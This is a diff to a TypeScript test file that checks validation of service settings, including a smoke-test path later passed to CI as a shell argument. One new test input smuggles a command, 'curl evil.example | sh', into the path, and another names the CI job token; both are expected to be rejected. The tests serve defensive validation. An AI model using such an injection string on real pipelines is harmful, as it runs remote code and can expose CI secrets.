@@ -1,6 +1,7 @@
 import { mkdtemp, rm } from 'node:fs/promises';
 import { tmpdir } from 'node:os';
 import { join } from 'node:path';
+import { fileURLToPath } from 'node:url';
 import { afterEach, beforeEach, describe, expect, it } from 'vitest';
 import { writeFiles } from '../testing/write-files.ts';
 import { CliError, UsageError } from './errors.ts';
@@ -27,7 +28,11 @@ describe('serviceFromProject', () => {
   it.each([
     [{ registry: 'quay' }, 'apps/x/project.json metadata.service.registry is "quay"; it must be one of: gitlab, dockerhub'],
     [{ port: '3000' }, 'metadata.service.port is "3000"; it must be a TCP port number'],
-    [{ smoke: 'api/ping' }, 'metadata.service.smoke is "api/ping"; it must be a path'],
+    [{ smoke: 'api/ping' }, 'metadata.service.smoke is "api/ping"; it must be a path such as "/api/ping", made of letters, digits and - . _ ~ % / ? & = + , : @'],
+    // The deploy's smoke job gets the path as a CI input and a shell argument: nothing a shell or YAML would read.
+    [{ smoke: '/api/ping"; curl evil.example | sh; "' }, 'metadata.service.smoke is "/api/ping\\"; curl evil.example | sh; \\""; it must be a path'],
+    [{ smoke: '/api/$CI_JOB_TOKEN' }, 'metadata.service.smoke is "/api/$CI_JOB_TOKEN"; it must be a path'],
+    [{ smoke: 42 }, 'metadata.service.smoke is 42; it must be a path'],
   ])('names the file and the setting when %j is wrong', (service, message) => {
     expect(() => serviceFromProject({ name: 'x', root: 'apps/x', metadata: { service } })).toThrow(message);
   });
@@ -53,6 +58,15 @@ describe('pickServices', () => {
   it('lists the projects with a Dockerfile when a name is not one', () => {
     expect(() => pickServices(services, { project: ['service-kit'], affected: false })).toThrow(CliError);
     expect(() => pickServices(services, { project: ['service-kit'], affected: false })).toThrow('"service-kit" is not a project with a Dockerfile (those are: fibonacci, weather)');
+  });
+});
+
+describe('the sample apps', () => {
+  const workspaceRoot = fileURLToPath(new URL('../../../', import.meta.url));
+
+  it('record the endpoint their smoke tests call: fibonacci its own route, weather its form page (no upstream)', async () => {
+    const smokePaths = Object.fromEntries((await loadServices(workspaceRoot)).map((service) => [service.name, service.smokePath]));
+    expect(smokePaths).toMatchObject({ fibonacci: '/api/fibonacci/8', weather: '/' });
   });
 });
 
